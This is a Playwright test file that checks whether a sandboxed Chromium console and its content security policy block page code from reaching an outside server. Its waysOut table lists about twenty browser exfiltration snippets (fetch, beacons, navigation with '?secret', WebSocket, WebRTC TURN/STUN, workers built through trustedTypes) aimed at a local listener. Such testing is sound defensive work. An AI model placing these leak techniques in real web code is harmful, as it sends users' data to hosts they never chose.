import { createSocket } from 'node:dgram';
import { readFileSync } from 'node:fs';
import { createServer as createHttpServer } from 'node:http';
import { type AddressInfo, createServer } from 'node:net';
import { contentSecurityPolicy, settingsFrom } from '@fleet/gateway';
import { expect, test } from '@playwright/test';
import { startFence } from '../../../sdk/fleet/src/proof/fence';
import { type Launched, launchConfined } from '../../../sdk/fleet/src/proof/launch';
import { linesOf } from '../../../sdk/fleet/src/proof/prove';
import { walk } from '../../../sdk/fleet/src/proof/walk';

/** What code of a build may try, with the address of a server that is not its console's. */
const waysOut: Readonly<Record<string, (to: string) => string>> = {
  'a call': (to) => `fetch('http://${to}/').catch(() => {})`,
  'a window': (to) => `open('http://${to}/?secret')`,
  'a link to a new window': (to) =>
    `Object.assign(document.createElement('a'), { href: 'http://${to}/', target: '_blank', rel: 'noopener' }).click()`,
  'a window of its own text': (to) =>
    `open(URL.createObjectURL(new Blob(['<img src="http://${to}/">'], { type: 'text/html' })))`,
  'a navigation': (to) => `location.href = 'http://${to}/?secret'`,
  'a navigation with TLS': (to) => `location.href = 'https://${to}/?secret'`,
  'a port that browsers refuse': () => `location.href = 'http://127.0.0.1:9/'`,
  'a name that is looked up': () => `location.href = 'http://secret.inner.example/'`,
  'a refresh': (to) =>
    `document.head.append(Object.assign(document.createElement('meta'), { httpEquiv: 'refresh', content: '0;url=http://${to}/' }))`,
  'a download': (to) =>
    `Object.assign(document.createElement('a'), { href: 'http://${to}/', download: 'file' }).click()`,
  'a form': (to) =>
    `const form = Object.assign(document.createElement('form'), { action: 'http://${to}/' }); document.body.append(form); form.submit()`,
  'a frame': (to) => `document.body.append(Object.assign(document.createElement('iframe'), { src: 'http://${to}/' }))`,
  'a socket': (to) => `new WebSocket('ws://${to}/')`,
  'a beacon': (to) => `navigator.sendBeacon('http://${to}/', 'secret')`,
  'a stream of events': (to) => `new EventSource('http://${to}/')`,
  'a picture': (to) => `new Image().src = 'http://${to}/'`,
  'a file fetched in advance': (to) =>
    `document.head.append(Object.assign(document.createElement('link'), { rel: 'prefetch', href: 'http://${to}/' }))`,
  'a ping': (to) =>
    `const link = Object.assign(document.createElement('a'), { href: '#', ping: 'http://${to}/' }); document.body.append(link); link.click()`,
  'a worker': (to) =>
    `trustedTypes.createPolicy('shell', { createScriptURL: String }); new Worker(trustedTypes.createPolicy('fleet-modules', { createScriptURL: String }).createScriptURL(URL.createObjectURL(new Blob(["fetch('http://${to}/').catch(() => {})"]))))`,
  'a relay of WebRTC': (to) =>
    `const peer = new RTCPeerConnection({ iceServers: [{ urls: 'turn:${to}?transport=tcp', username: 'a', credential: 'b' }] }); peer.createDataChannel('x'); peer.createOffer().then((offer) => peer.setLocalDescription(offer))`,
  'datagrams of WebRTC': (to) =>
    `const peer = new RTCPeerConnection({ iceServers: [{ urls: 'stun:${to}' }] }); peer.createDataChannel('x'); peer.createOffer().then((offer) => peer.setLocalDescription(offer))`,
  'a transport of HTTP/3': (to) => `new WebTransport('https://${to}/').ready.catch(() => {})`,
};

const port = (server: { address(): unknown }) => (server.address() as AddressInfo).port; // it listens on a port

/** A server of the inner network, by TCP and by datagrams, which keeps what it hears. */
async function startInner() {
  const heard: string[] = [];
  const tcp = createServer((socket) => {
    heard.push('a connection');
    socket.on('error', () => undefined).end();
  });
  await new Promise<void>((resolve) => tcp.listen(0, '127.0.0.1', resolve));
  const udp = createSocket('udp4').on('message', () => heard.push('a datagram'));
  await new Promise<void>((resolve) => udp.bind(port(tcp), '127.0.0.1', resolve));
  return { heard, address: `127.0.0.1:${port(tcp)}`, close: () => [tcp, udp].map((one) => one.close()) };
}

const policy = contentSecurityPolicy(
  { modules: {} },
  settingsFrom({ TILE_URL: 'none', LIVE_ORIGIN: 'none' }).config,
  'localhost',
);

/** A console of one page. @param code that the page starts @param isBare without the gateway's policy */
async function startPage(code: string, isBare: boolean) {
  const server = createHttpServer(({ url }, answer) => {
    if (!isBare) answer.setHeader('content-security-policy', policy);
    const isCode = url?.endsWith('.js');
    answer.setHeader('content-type', isCode ? 'text/javascript' : 'text/html');
    answer.end(
      isCode
        ? `document.title = 'Page'; ${code}`
        : '<!doctype html><title></title><body><main>A page with some text</main><script src="/page.js"></script>',
    );
  });
  await new Promise<void>((resolve) => server.listen(0, 'localhost', resolve));
  return { url: `http://localhost:${port(server)}`, close: () => server.close() };
}

let launched: Launched;
let inner: Awaited<ReturnType<typeof startInner>>;
test.beforeAll(async () => {
  process.env.ROLLOUT_KEY = 'key of the store';
  inner = await startInner();
  launched = await launchConfined(process.env.CHROMIUM_PATH ?? '/usr/bin/chromium', 10_000);
});
test.afterAll(async () => {
  delete process.env.ROLLOUT_KEY;
  await launched.close();
  inner.close();
});

/** What is said of a build with this code. */
async function problemsOf(code: string, { isBare = false } = {}): Promise<string[]> {
  const page = await startPage(code, isBare);
  const fence = await startFence(page.url);
  try {
    const stops = [{ expose: './Page', route: '/', address: '/', label: 'Page' }];
    const until = performance.now() + 10_000;
    // One that leaves its document ends the walk.
    const { shared } = await walk(launched.browser, page.url, { of: '', files: {}, stops, until, fence }).catch(() => ({
      shared: [],
    }));
    return linesOf(shared, fence, '/modules/own/1.0.0/');
  } finally {
    fence.close();
    page.close();
  }
}

test('nothing is said of a page that stays within', { tag: '@long' }, async () => {
  expect(await problemsOf("fetch('/page.js')")).toEqual([]);
});

for (const [way, codeTo] of Object.entries(waysOut))
  test(`${way} refuses the build that is proved, and nothing outside hears of it`, { tag: '@long' }, async () => {
    const code = codeTo(inner.address);
    const [lines] = await Promise.all([problemsOf(code), problemsOf(code, { isBare: true })]);
    expect(lines.join()).toMatch(/called elsewhere|the policy's/);
    expect(inner.heard).toEqual([]);
  });

test('its processes know no key, and are another user where this one is root', { tag: '@long' }, () => {
  test.skip(process.platform !== 'linux');
  const children = readFileSync(`/proc/self/task/${process.pid}/children`, 'utf8').split(' ').filter(Boolean);
  expect(children).not.toEqual([]);
  for (const child of children) {
    expect(readFileSync(`/proc/${child}/environ`, 'utf8')).not.toContain('ROLLOUT_KEY');
    const [, user] = /^Uid:\s+(\d+)/m.exec(readFileSync(`/proc/${child}/status`, 'utf8')) ?? [];
    expect(user === '0').toBe(launched.name.includes('as root'));
  }
});
